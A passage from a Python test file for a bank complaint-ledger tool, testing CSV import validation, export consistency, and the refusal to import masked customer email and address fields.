              "group_size", "severity", "compensation", "conflicts", "policy", "policy_version", "first_handler"]
    base = ["ts-2026-000001", "2026-08-03T10:00:00+08:00", "电话", "service", "CARD", "other", " 张三 ", "城关支行", "x",
            "closed", "2026-08-05T10:00:00+08:00", "upheld", "11010519491231002x", "13812345678", "2026-08-04",
            "2026-08-24", "2026-10-30", "6", "", "19.99", '["王五", " 李四"]', "", "1", ""]
    reader = import_read.CsvReader.__new__(import_read.CsvReader)
    reader.header, reader.index = header, {c: i for i, c in enumerate(header)}

    def both(rows):
        fast = checker.columns.check(reader.index, rows, nul_seen=True)
        slow = [checker.row(reader.values(r)) for r in rows]
        assert fast == {c: ["" if row[c] is None else row[c] for row in slow] for c in import_check.ROW_COLUMNS}

    both([base, [*base[:9], "open", "", "", "", "", *base[14:17], "", "重大", "", "", "cbrc2012", "", "王五"]])
    for field, value in [("received_at", "2026-08-03 10:00"), ("customer_id_number", "110105194912310021"),
                         ("ack_due", ""), ("customer_phone", "138-1234-5678"), ("closed_at", ""), ("ref", "TS-26-1"),
                         ("received_at", "2026-02-30T10:00:00+08:00"), ("channel", "pigeon"), ("group_size", "0"),
                         ("summary", "a\x00b")]:
        row = list(base)
        row[header.index(field)] = value
        with pytest.raises((import_check.Slow, import_read.Bad, ValueError)):
            checker.columns.check(reader.index, [base, row], nul_seen=True)
    assert id_check_ok("11010519491231002X") and not id_check_ok("110105194912310021")
    ledger.close()


@pytest.mark.parametrize("excel", [False, True])
def test_export_csv_writes_what_the_output_layer_writes(ledger_path, filled, excel):
    from tsk.render import output

    ledger = Ledger.open(ledger_path)
    rows = ledger.store.rows("SELECT * FROM complaint ORDER BY ref")
    ledger.close()
    for show_pii in (False, True):
        records = [views.export_record(r, show_pii=show_pii) for r in rows]
        expected, got = io.StringIO(), io.StringIO()
        output.write_csv([dict(r) for r in records], fields.EXPORT_FIELDS, expected, excel=excel)
        assert export.write_csv([dict(r) for r in records], got, excel=excel) == 4
        assert got.getvalue() == expected.getvalue()



def test_a_masked_email_or_address_is_refused_by_the_import(tsk, tmp_path):
    """Both pass as text, so only their masks tell: an export without --show-pii, imported,
    would have replaced the customer's email and address with stars."""
    run = tsk(["add", "--customer", "张三", "--channel", "phone", "--category", "service", "--business-type", "card",
               "--cause", "other", "--unit", "城关支行", "--summary", "排队", "--received", "2026-08-03 10:00",
               "--email", "zhang.san@example.cn", "--address", "广东省广州市天河区体育西路103号"])
    assert run.exit_code == 0, run.stderr
    masked = tsk(["export"]).stdout
    assert "z***@example.cn" in masked and "广东省广州市****" in masked and "zhang.san" not in masked
    for column in ("customer_email", "customer_address"):
        header, row = list(csv.reader(io.StringIO(masked)))
        row = [value if name == column else (value if name not in ("customer_email", "customer_address") else "")
               for name, value in zip(header, row)]
        path = tmp_path / f"{column}.csv"
        write_csv(path, [header, row])
        other = str(tmp_path / f"{column}.db")
        lines = import_fails(tsk, other, path)
        assert lines[0] == (f"Error: {path} line 2, field {column}: '{row[header.index(column)]}' is masked: this file "
                            "was exported without --show-pii and cannot be imported without losing the customer's data; "
                            "export it again with --show-pii")
